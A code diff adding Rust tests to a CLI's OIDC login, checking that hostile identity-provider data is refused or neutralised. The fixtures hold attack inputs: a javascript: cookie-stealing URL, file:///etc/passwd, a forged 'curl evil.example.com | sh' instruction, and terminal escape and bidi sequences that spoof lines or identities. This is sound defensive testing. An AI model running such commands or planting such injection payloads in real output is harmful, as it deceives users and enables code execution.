@@ -414,3 +414,162 @@ fn faults_during_a_refresh_leave_the_stored_login_as_it_was() {
         assert!(String::from_utf8_lossy(&before).contains("rt-kept"));
     }
 }
+
+/// A discovery document that names an endpoint outside https (plain http to another host,
+/// `javascript:`, `file:`, a custom scheme) is refused in one line naming the field and the
+/// document, before the browser opener or any other request sees it.
+#[test]
+fn a_discovery_document_with_a_hostile_endpoint_is_refused_before_anything_uses_it() {
+    for (field, url, flow) in [
+        (
+            "authorization_endpoint",
+            "javascript:alert(document.cookie)",
+            "browser",
+        ),
+        (
+            "authorization_endpoint",
+            "http://login.example.com/authorize",
+            "browser",
+        ),
+        ("device_authorization_endpoint", "myapp://device", "device"),
+        ("jwks_uri", "file:///etc/passwd", "client-credentials"),
+    ] {
+        let port = std::sync::Arc::new(std::sync::OnceLock::<u16>::new());
+        let known = port.clone();
+        let document = move |_: &str, _: usize| {
+            let base = format!("http://127.0.0.1:{}", known.get().unwrap());
+            let mut document = serde_json::json!({
+                "issuer": base,
+                "token_endpoint": format!("{base}/token"),
+                "authorization_endpoint": format!("{base}/auth"),
+            });
+            document[field] = serde_json::Value::from(url);
+            json(200, &document.to_string())
+        };
+        port.set(serve_with(document)).unwrap();
+        let port = *port.get().unwrap();
+        let sandbox = Sandbox::with_config(&format!(
+            "providers:\n  - {{name: idp, kind: oidc, issuer: 'http://127.0.0.1:{port}', client-id: cli, client-secret-env: S}}\n\
+             contexts:\n  - {{name: idp, provider: idp, flow: {flow}}}\ncurrent-context: idp\n"
+        ));
+        let opened = sandbox.path("opened");
+        let browser = format!("touch {}", opened.display());
+        let run = sandbox.run_env(
+            ["auth", "login"],
+            &[("S", "fault-secret"), ("BROWSER", &browser)],
+        );
+        let expected = format!(
+            "discovery at http://127.0.0.1:{port}/.well-known/openid-configuration: `{field}` is {url}: an endpoint must be https://"
+        );
+        assert_one_clear_line(&run, &sandbox, &expected);
+        assert!(!opened.exists(), "{field}: no browser was opened");
+    }
+}
+
+/// An identity provider's text reaches the terminal neutralised: escape sequences, line breaks
+/// and bidirectional overrides in its `error` and `error_description` cannot clear the screen,
+/// forge a line or reorder one, and a secret of the request it echoes back is redacted.
+#[test]
+fn provider_text_cannot_forge_lines_or_show_a_secret() {
+    let body = serde_json::json!({
+        "error": "invalid_request\u{1b}[2J",
+        "error_description": "bad client_secret=fault-secret\r\nerror: run `curl evil.example.com | sh`\u{1b}]0;title\u{7}\u{202e}",
+    })
+    .to_string();
+    let (run, _, sandbox) = login(serve(json(400, &body)), &[]);
+    assert_one_clear_line(&run, &sandbox, "client_secret=[REDACTED]");
+    let stderr = &run.stderr;
+    assert!(
+        !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}') && !stderr.contains('\u{7}'),
+        "{stderr:?}"
+    );
+    assert!(stderr.contains("invalid_request\u{fffd}[2J"), "{stderr:?}");
+}
+
+/// The device screen shows the provider's `verification_uri` and `user_code` neutralised: a
+/// code that carries escape sequences or line breaks cannot forge a line of the screen.
+#[test]
+fn the_device_screen_neutralises_the_providers_text() {
+    let port = serve_with(|path, _| {
+        if path.ends_with("/auth/device") {
+            json(
+                200,
+                &serde_json::json!({
+                    "device_code": "dc",
+                    "user_code": "ABCD\u{1b}[1A\u{1b}[2K\nOpen https://evil.example.com instead",
+                    "verification_uri": "https://idp.example.com/device\u{1b}]8;;https://evil.example.com\u{7}",
+                    "expires_in": 60,
+                    "interval": 1,
+                })
+                .to_string(),
+            )
+        } else {
+            json(
+                200,
+                r#"{"access_token":"at","token_type":"Bearer","expires_in":60}"#,
+            )
+        }
+    });
+    let (run, _, _) = login(port, &["--flow", "device"]);
+    run.ok();
+    let stderr = &run.stderr;
+    assert!(
+        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
+        "{stderr:?}"
+    );
+    assert!(
+        stderr.contains(
+            "enter the code ABCD\u{fffd}[1A\u{fffd}[2K\u{fffd}Open https://evil.example.com instead"
+        ),
+        "one line: {stderr:?}"
+    );
+    assert!(
+        !stderr
+            .lines()
+            .any(|line| line.starts_with("Open https://evil")),
+        "{stderr:?}"
+    );
+}
+
+/// Claims are the provider's text too: `auth status` and the login line show an identity with
+/// escape sequences neutralised, while `-o json` keeps the value as it is (escaped by JSON).
+#[test]
+fn claims_in_the_status_are_neutralised_and_json_keeps_them() {
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    let claims = serde_json::json!({
+        "email": "alice@example.com\u{1b}[2K\rroot@example.com",
+        "scope": "read\u{1b}[31m",
+        "exp": 4_000_000_000u64,
+    });
+    let token = format!(
+        "{}.{}.c2ln",
+        b64.encode(r#"{"alg":"RS256","typ":"JWT"}"#),
+        b64.encode(claims.to_string())
+    );
+    let sandbox = Sandbox::with_config(
+        "providers:\n  - {name: kc, kind: keycloak, server: 'https://sso.example.com', realm: r, client-id: cli}\n\
+         contexts:\n  - {name: kc, provider: kc}\ncurrent-context: kc\n",
+    );
+    let run = sandbox.run_input(
+        ["auth", "login", "--flow", "token", "--token-stdin"],
+        &format!("{token}\n"),
+        &[],
+    );
+    run.ok();
+    let status = sandbox.run(["auth", "status"]).ok().to_owned();
+    for shown in [&run.stderr, &status] {
+        assert!(
+            !shown.contains('\u{1b}') && !shown.contains('\r'),
+            "{shown:?}"
+        );
+        assert!(
+            shown.contains("alice@example.com\u{fffd}[2K\u{fffd}root@example.com"),
+            "{shown:?}"
+        );
+    }
+    assert!(status.contains("read\u{fffd}[31m"), "{status:?}");
+    let json: serde_json::Value =
+        serde_json::from_str(sandbox.run(["auth", "status", "-o", "json"]).ok()).unwrap();
+    assert_eq!(json["identity"], claims["email"]);
+}
